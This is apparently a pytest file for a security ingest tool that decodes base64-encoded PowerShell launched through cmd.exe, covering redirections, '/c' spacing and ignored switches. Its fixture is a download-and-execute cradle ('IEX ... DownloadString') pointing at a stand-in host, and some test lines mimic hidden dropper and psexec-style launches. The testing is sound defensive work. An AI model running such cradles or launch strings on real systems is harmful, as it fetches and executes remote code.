"""``cmd /c powershell -enc ...`` with cmd's redirections, and ``cmd/c`` without a space.

Droppers add ``>nul 2>&1``: the redirection was read as a second PowerShell
command (refused, so nothing decoded) and ``2>&1`` was split at its ``&``.
"""

from __future__ import annotations

import base64

import pytest

from ingest.powershell import decode_powershell_command, powershell_run_by_cmd

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"
B64 = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
CMD = r"C:\Windows\System32\cmd.exe"


@pytest.mark.parametrize(
    "command_line",
    [
        f"cmd /c powershell -enc {B64} >nul",
        f"cmd /c powershell -enc {B64} >nul 2>&1",
        f"cmd /c powershell -enc {B64} 2>&1 >nul",
        f"cmd /c powershell -enc {B64}>nul",
        rf"cmd /c powershell -enc {B64} 1>c:\t\o.txt",
        rf'cmd /c powershell -enc {B64} >>"c:\a b\o.txt" 2>>&1',
        f"cmd /c powershell -enc {B64} < nul",
        f"cmd /c powershell -enc {B64} <nul",
        f'cmd /c "powershell -nop -w hidden -enc {B64} >nul 2>&1"',
        f"cmd /c echo x>nul&powershell -enc {B64}",  # the file name ends at cmd's next operator
        f"cmd/c powershell -enc {B64}",  # cmd ends its own name at the "/"
        rf"{CMD}/c powershell -enc {B64} >nul 2>&1",
        f"cmd.exe/q/c powershell -enc {B64}",
    ],
)
def test_redirections_and_cmd_slash_c_are_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line, CMD) == SCRIPT
    assert decode_powershell_command(command_line) == SCRIPT


def test_the_command_run_has_no_redirection() -> None:
    assert powershell_run_by_cmd(f"cmd /c powershell -enc {B64} >nul 2>&1") == f"powershell -enc {B64}"


@pytest.mark.parametrize(
    "command_line",
    [
        f"cmd /c powershell -enc {B64} extra >nul",  # still a second command PowerShell refuses
        f'cmd /c echo "powershell -enc {B64} >nul"',  # quoted: echo's text, its ">" no redirection
        f"cmd /c echo -enc {B64} >nul",
        f"cmdx/c powershell -enc {B64}",  # not cmd
        f"notcmd.exe/c powershell -enc {B64}",
    ],
)
def test_lines_that_run_no_encoded_powershell_stay_undecoded(command_line: str) -> None:
    assert decode_powershell_command(command_line, CMD) is None


def test_a_quoted_greater_than_sign_stays_in_the_command() -> None:
    assert powershell_run_by_cmd('cmd /c powershell -c "echo a>b"') == 'powershell -c "echo a>b"'


@pytest.mark.parametrize(
    "command_line",
    [
        # Cobalt Strike's and Metasploit's psexec service command: cmd ignores the /b
        rf"C:\Windows\system32\cmd.exe /b /c start /b /min powershell -nop -w hidden -encodedcommand {B64}",
        f"cmd.exe /x /b /q /c powershell -enc {B64}",
        f"cmd /V:ON /b /c powershell -enc {B64}",
    ],
)
def test_switches_cmd_ignores_before_slash_c_still_reach_the_command(command_line: str) -> None:
    assert decode_powershell_command(command_line, CMD) == SCRIPT


def test_a_slash_k_or_r_after_other_switches_still_runs_the_command() -> None:
    assert powershell_run_by_cmd(f"cmd /b /k powershell -enc {B64}") == f"powershell -enc {B64}"
    assert powershell_run_by_cmd(f"cmd /b /r powershell -enc {B64}") == f"powershell -enc {B64}"
